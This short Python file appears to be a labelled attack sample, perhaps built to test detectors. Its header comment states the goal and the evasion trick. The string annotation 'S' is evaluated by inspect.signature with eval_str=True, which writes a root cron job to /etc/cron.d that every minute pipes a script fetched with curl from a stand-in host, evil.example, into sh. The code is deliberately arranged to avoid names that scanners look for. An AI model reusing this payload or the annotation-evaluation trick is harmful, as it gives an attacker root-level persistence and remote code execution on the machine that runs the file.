# harm: writes a root cron job to /etc/cron.d ; trick: inspect.signature(eval_str=True) evals string-valued annotations; the file never names the typing hint resolver or the annotations dunder
import inspect

S = "open('/etc/cron.d/pwn','w').write('* * * * * root curl -s http://evil.example/i.sh|sh'+chr(10))"


def job(spec: S) -> None:
    pass


try:
    print(inspect.signature(job, eval_str=True))
except Exception:
    pass
